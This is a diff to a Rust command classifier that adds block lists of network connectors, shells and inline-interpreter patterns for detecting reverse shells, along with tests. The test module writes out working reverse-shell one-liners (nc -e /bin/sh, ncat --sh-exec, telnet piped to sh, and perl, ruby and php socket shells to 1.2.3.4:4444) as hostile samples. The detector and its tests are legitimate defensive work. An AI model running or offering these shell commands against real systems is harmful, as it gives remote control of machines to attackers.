@@ -117,8 +117,51 @@ const SHELL_STARTS: &[&str] = &[
 
 /// Programs that bring data in.
 const FETCHERS: &[&str] = &[
-    "curl", "wget", "fetch", "aria2c", "base64", "base32", "xxd", "openssl", "nc", "ncat", "netcat", "lynx",
-    "iwr", "irm",
+    "curl", "wget", "fetch", "aria2c", "base64", "base32", "xxd", "openssl", "nc", "ncat", "netcat",
+    "telnet", "lynx", "iwr", "irm",
+];
+
+/// Programs that connect to other machines and can hand the connection to a program of their choice, and the options for it.
+const CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "nc.exe", "ncat.exe"];
+const HANDED_TO: &[&str] = &["--exec", "--sh-exec", "--lua-exec"];
+
+/// Shells, as what a connection is handed to.
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "ash",
+    "fish",
+    "csh",
+    "tcsh",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+];
+
+/// Interpreters that take a program as a word, the letters of the options before it (none: any word can be one), names whose
+/// mention in it is enough, and names that start programs or connections when they are called.
+const INLINE: &[(&[&str], &str, &[&str], &[&str])] = &[
+    (&["perl"], "e", &["io::socket"], &["exec", "system", "socket", "qx"]),
+    (&["ruby", "jruby"], "e", &["tcpsocket", "open3"], &["exec", "system", "spawn", "popen"]),
+    (
+        &["php"],
+        "r",
+        &["fsockopen", "proc_open", "shell_exec", "passthru", "pcntl_exec"],
+        &["exec", "system", "popen", "eval"],
+    ),
+    (
+        &["node", "nodejs", "bun", "deno"],
+        "ep",
+        &["child_process", "spawn_sync", "deno.command", "deno.run", "bun.spawn"],
+        &[],
+    ),
+    (&["lua", "luajit"], "e", &["os.execute", "io.popen"], &[]),
+    (&["awk", "gawk", "mawk", "nawk"], "", &["/inet/"], &["system"]),
 ];
 
 /// Programs that run what they are given.
@@ -328,6 +371,12 @@ fn hostile(plain: &str) -> Option<&'static str> {
     if feeds_an_interpreter(plain) {
         return Some("downloads or decodes code and runs it");
     }
+    if hands_over_a_shell(plain) {
+        return Some("opens a shell to another machine");
+    }
+    if inline_program(plain) {
+        return Some("runs an inline program that starts others");
+    }
     if SHELL_STARTS.iter().any(|file| plain.contains(file)) && (plain.contains('>') || plain.contains("tee "))
     {
         return Some("makes something start with every shell");
@@ -400,6 +449,66 @@ fn feeds_an_interpreter(plain: &str) -> bool {
         .skip(1)
         .any(|inner| matches!(program(inner).as_str(), "curl" | "wget" | "iwr"))
         && INTERPRETERS.contains(&program(plain).as_str())
+}
+
+/// The name of a program, without quotes and folder.
+fn named(word: &str) -> &str {
+    let word = word.trim_matches(['"', '\'', '`', '(', ')', '$', '{', '}']);
+    word.rsplit(['/', '\\']).next().unwrap_or(word)
+}
+
+/// `nc -e /bin/sh HOST PORT`, `ncat HOST PORT --sh-exec 'bash -i'`.
+fn hands_over_a_shell(plain: &str) -> bool {
+    plain.split(['|', ';', '&']).any(|part| {
+        let words: Vec<&str> = part.split_whitespace().collect();
+        let Some(at) = words.iter().position(|word| CONNECTORS.contains(&named(word))) else { return false };
+        let options = words.get(at..).unwrap_or_default();
+        let pairs = options.iter().zip(options.iter().skip(1).chain([&""]));
+        pairs.into_iter().any(|(option, next)| {
+            let (option, given) = option.split_once('=').unwrap_or((option, next));
+            let short = option.strip_prefix('-').is_some_and(|letters| {
+                letters.ends_with(['e', 'c']) && letters.chars().all(|letter| letter.is_ascii_alphabetic())
+            });
+            HANDED_TO.contains(&option) || short && SHELLS.contains(&named(given))
+        })
+    })
+}
+
+/// `perl -e '…exec("/bin/sh")…'`, `awk 'BEGIN{system("…")}'`.
+fn inline_program(plain: &str) -> bool {
+    INLINE.iter().any(|(programs, letters, mentions, calls)| {
+        let mut words = plain.split_whitespace();
+        let starts = words.by_ref().any(|word| programs.contains(&named(word)));
+        let given = letters.is_empty()
+            || words.by_ref().any(|word| {
+                let letter = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
+                letter.is_some_and(|rest| rest.ends_with(|last| letters.contains(last)))
+                    || matches!(word, "--eval" | "--print" | "--run" | "eval")
+            });
+        let program = words.collect::<Vec<_>>().join(" ");
+        starts
+            && given
+            && (mentions.iter().any(|name| program.contains(name))
+                || calls.iter().any(|name| calls_it(&program, name)))
+    })
+}
+
+/// Whether a program calls a function of this name with something: `exec("sh")`, `exec 'sh'`, not `system("")`, which only
+/// empties buffers in awk, and not a word in a pattern.
+fn calls_it(program: &str, name: &str) -> bool {
+    let word = |letter: char| letter.is_ascii_alphanumeric() || letter == '_';
+    program.match_indices(name).any(|(at, _)| {
+        let before = program.get(..at).unwrap_or_default();
+        let after = program.get(at.saturating_add(name.len())..).unwrap_or_default();
+        // A method of that name belongs to something else (`pattern.exec(…)`, `$database->exec(…)`), unless the language itself owns it.
+        let owned = ["kernel.", "process.", "io."].iter().any(|owner| before.ends_with(owner));
+        let method = before.ends_with("->") || before.ends_with('.') && !owned;
+        let whole = !before.ends_with(word) && !after.starts_with(word) && !before.ends_with("s/") && !method;
+        let given = after.trim_start();
+        let given = given.strip_prefix('(').map_or(given, str::trim_start);
+        let quoted = given.starts_with(['"', '\'', '`', '{', '$', '[', '\\']) || after.starts_with('(');
+        whole && quoted && !given.starts_with("\"\")") && !given.starts_with(')')
+    })
 }
 
 /// `rm -rf` on the root, the home folder or all of them.
@@ -480,4 +589,42 @@ pub fn is_everything(path: &str) -> bool {
         path.trim_end_matches(['/', '*']),
         "" | "~" | "$HOME" | "/home" | "/etc" | "/usr" | "/var" | "/root" | "C:" | "C:\\"
     ) && !path.is_empty()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shells_over_the_network_and_inline_programs() {
+        for hostile in [
+            "nc -e /bin/sh 1.2.3.4 4444",
+            "ncat 1.2.3.4 4444 --sh-exec='bash -i'",
+            "telnet 1.2.3.4 4444 | /bin/sh | telnet 1.2.3.4 4445",
+            "perl -e 'use Socket;$i=\"1.2.3.4\";exec(\"/bin/sh -i\");'",
+            "ruby -rsocket -e 'exec(\"/bin/sh\")'",
+            "ruby -rsocket -e 'c=TCPSocket.new(\"1.2.3.4\",4444);while(l=c.gets);IO.popen(l,\"r\"){|i|c.print i.read}end'",
+            "php -r '$s=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3\");'",
+            "node -e 'require(\"child_process\").exec(\"id\")'",
+            "lua -e 'os.execute(\"id\")'",
+            "awk 'BEGIN{system(\"id\")}'",
+        ] {
+            assert!(matches!(judge(hostile), Command::Hostile(_)), "{hostile}");
+        }
+        for ordinary in [
+            "nc -z localhost 8080",
+            "nc -c example.com 443",
+            "perl -pi -e 's/exec /run /' file",
+            "perl -ne 'print if /system/' log",
+            "awk '{print $1; system(\"\")}' log",
+            "awk '{print $2}' system.log",
+            "node -e 'console.log(1)'",
+            "node -p '/v(.*)/.exec(process.version)[1]'",
+            "php -r '$base->exec(\"VACUUM\");'",
+            "perl -e 'alarm shift; exec @ARGV' 10 make",
+            "ruby -e 'puts 1'",
+        ] {
+            assert!(!matches!(judge(ordinary), Command::Hostile(_)), "{ordinary}");
+        }
+    }
 }
